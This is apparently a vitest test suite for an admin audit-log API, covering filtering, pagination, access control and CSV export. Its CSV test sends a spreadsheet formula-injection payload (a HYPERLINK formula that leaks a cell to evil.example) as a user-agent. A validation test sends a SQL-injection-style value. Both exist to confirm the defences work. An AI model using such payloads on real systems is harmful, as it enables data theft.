import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { moderator, type Person, person } from "../../../../tests/support/people.ts";
import { startTestServer, type TestServer } from "../../../../tests/support/server.ts";
import { systemActor, type UserActor } from "../../core/actor.ts";
import { recordAudit } from "./audit.ts";
import type { AuditEvent } from "./journal-contract.ts";
import { createJournalService } from "./journal-service.ts";

let server: TestServer;
let admin: Person;
let maud: Person;
let someone: Person;
beforeAll(async () => {
  server = await startTestServer();
  admin = await person(server, "Ada Min");
  await server.sql("update users set roles = roles || '{admin}' where id = $1", [admin.userId]);
  maud = await moderator(server);
  someone = await person(server);
});
afterAll(() => server.close());

const read = (query: Record<string, string> = {}, headers: Record<string, string> = {}) =>
  admin.get(`/admin/audit-events?${new URLSearchParams(query)}`, { headers });
const items = async (query: Record<string, string>): Promise<AuditEvent[]> => (await read(query)).body.items;
const csvLines = (text: string) => text.trimEnd().split("\r\n");

/** Entries of an action that no test else makes, by the program itself. */
const write = (count: number, seed: string) =>
  server.resources.database.transaction(async (tx) => {
    for (let n = 0; n < count; n++)
      await recordAudit(tx, systemActor("test", seed), {
        action: "command.demo",
        resource: { type: "command", id: null },
        changes: { seed: `${seed}-${n}` },
      });
  });
const seeds = (events: readonly AuditEvent[]) => events.map(({ details }) => details?.changes?.seed);

describe("the log of actions, to an administrator,", () => {
  it("says who did what, from where, newest first", async () => {
    const { body: mission } = await someone.post("/missions", {
      title: "Réparer le portail",
      description: "Le portail grince depuis un mois.",
    });
    const [entry] = await items({ resourceId: mission.id });
    expect(entry).toMatchObject({
      action: "mission.create",
      result: "done",
      actor: { kind: "user", id: someone.userId, partyId: someone.partyId, name: null },
      resource: { type: "mission", id: mission.id },
      details: { address: "127.0.0.1", changes: null },
    });
    expect(Date.parse(entry?.at ?? "")).toBeGreaterThan(Date.now() - 3_600_000);
  });

  it("is asked from and to any moment that can be written, with whatever offset", async () => {
    for (const moment of ["0001-01-01T00:00:00Z", "1969-12-31T23:59:59+23:59", "9999-12-31T23:59:59Z"])
      for (const side of ["from", "to"]) {
        const { status } = await admin.get(`/admin/audit-events?${new URLSearchParams({ [side]: moment })}`);
        expect([side, moment, status]).toEqual([side, moment, 200]);
      }
  });

  it("is refused to a moderator", async () => {
    expect((await maud.get("/admin/audit-events")).status).toBe(403);
  });

  it("is found by who, for whom, action, resource, result and time, each by itself and together", async () => {
    const all = await items({ limit: "100" });
    const has = async (query: Record<string, string>, which: (event: AuditEvent) => boolean) => {
      const found = await items({ limit: "100", ...query });
      expect(found.length, JSON.stringify(query)).toBeGreaterThan(0);
      expect(found.filter((event) => !which(event))).toEqual([]);
      expect(found.map(({ id }) => id)).toEqual(
        expect.arrayContaining(all.filter(which).map(({ id }) => id)),
      );
    };
    await has({ actorId: someone.userId }, ({ actor }) => actor.id === someone.userId);
    await has({ partyId: someone.partyId }, ({ actor }) => actor.partyId === someone.partyId);
    await has({ action: "account." }, ({ action }) => action.startsWith("account."));
    await has({ action: "mission.create" }, ({ action }) => action === "mission.create");
    await has({ resourceType: "user" }, ({ resource }) => resource.type === "user");
    await expect.poll(() => items({ result: "refused" })).not.toEqual([]);
    await has({ result: "refused" }, ({ result }) => result === "refused");
    const middle = all[1] as AuditEvent;
    await has({ from: middle.at }, ({ at }) => at >= middle.at);
    await has({ to: middle.at }, ({ at }) => at < middle.at);
    await has(
      { actorId: someone.userId, action: "mission.", resourceType: "mission" },
      ({ actor, action }) => actor.id === someone.userId && action === "mission.create",
    );
  });

  it("is walked page by page: each entry once, also while others come", async () => {
    await write(25, "walk");
    const seen: unknown[] = [];
    let cursor: string | undefined;
    do {
      const page = await read({ action: "command.demo", limit: "4", ...(cursor && { cursor }) });
      expect(page.status).toBe(200);
      seen.push(...seeds(page.body.items));
      cursor = page.body.nextCursor ?? undefined;
      await write(1, "late");
    } while (cursor !== undefined);
    expect(seen).toEqual(Array.from({ length: 25 }, (_, n) => `walk-${24 - n}`));
  });

  it("takes a cursor for the same filters alone, and nothing out of form", async () => {
    const { body } = await read({ action: "command.demo", limit: "1" });
    expect((await read({ action: "command.", limit: "1", cursor: body.nextCursor })).body.code).toBe(
      "invalid_cursor",
    );
    for (const wrong of [
      { actorId: "x" },
      { action: "'; drop" },
      { action: "%" },
      { from: "yesterday" },
      { result: "maybe" },
      { format: "xml" },
      { resourceType: "Mission" },
    ])
      expect([wrong, (await read(wrong as Record<string, string>)).status]).toEqual([wrong, 400]);
  });

  it("holds that it was read, by whom and what was asked for; HEAD tells nothing and leaves nothing", async () => {
    const looks = () => items({ action: "audit.look", actorId: admin.userId, limit: "100" });
    const before = (await looks()).length;
    const head = await server.api.request("HEAD", "/api/v1/admin/audit-events", { token: admin.token });
    expect(head.status).toBe(200);
    await read({ resourceType: "mission", result: "done" });
    const after = await looks();
    // The reading before, and this one.
    expect(after.length - before).toBe(2);
    expect(after[0]?.details?.changes).toEqual({ resourceType: "mission", result: "done", format: "json" });
  });

  it("says of details that were deleted that they were", async () => {
    await write(1, "erased");
    const [entry] = await items({ action: "command.demo", limit: "1" });
    await server.sql("delete from audit_details where entry_id = $1", [entry?.id]);
    expect((await items({ action: "command.demo", limit: "1" }))[0]).toMatchObject({
      id: entry?.id,
      details: null,
    });
  });
});

describe("as CSV", () => {
  it("runs nothing in a spreadsheet, whatever a browser calls itself", async () => {
    const userAgent = '=HYPERLINK("https://evil.example?"&A1,"ouvrir")';
    await someone.patch("/me", { displayName: "Élodie F." }, { headers: { "user-agent": userAgent } });
    const { status, headers, text } = await read({ action: "account.update", format: "csv" });
    expect([status, headers.get("content-type")]).toEqual([200, "text/csv; charset=utf-8; header=present"]);
    expect(headers.get("content-disposition")).toContain("attachment");
    expect(headers.get("cache-control")).toBe("no-store");
    const [names, line] = csvLines(text);
    expect(names).toBe(
      "at,id,action,result,actor_kind,actor_id,actor_party_id,actor_name,resource_type,resource_id,request_id,details,address,user_agent,changes",
    );
    expect(line).toContain('"\'=HYPERLINK(""https://evil.example?""&A1,""ouvrir"")"');
    expect(text).not.toMatch(/(^|,)[=+@]/m);
  });

  it("is what Accept asks for, and the query says more", async () => {
    const accept = { accept: "text/csv" };
    expect((await read({}, accept)).headers.get("content-type")).toContain("text/csv");
    expect((await read({ format: "json" }, accept)).headers.get("content-type")).toContain(
      "application/json",
    );
  });

  it("holds everything that was asked for, page after page, and each file says where the next begins", async () => {
    await write(23, "file");
    const { database } = server.resources;
    const actor = {
      ...systemActor("", "r"),
      kind: "user",
      userId: admin.userId,
      partyId: admin.partyId,
    } as unknown as UserActor;
    const journal = createJournalService({ database }, 10);
    const filter = { action: "command.demo" };
    const seen: string[] = [];
    let after: Parameters<typeof journal.file>[2]["after"] = null;
    const sizes: number[] = [];
    do {
      const file = await journal.file(actor, filter, { after, tells: true });
      const before = seen.length;
      for await (const rows of file.pages) seen.push(...rows.map(({ id }) => id));
      sizes.push(seen.length - before);
      after = file.next;
    } while (after !== null);
    const all = await server.sql<{ id: string }>(
      "select id from audit_entries where action = 'command.demo' order by at desc, id desc",
    );
    expect(seen).toEqual(all.map(({ id }) => id));
    expect(sizes.slice(0, -1).every((size) => size === 10)).toBe(true);
  });
});
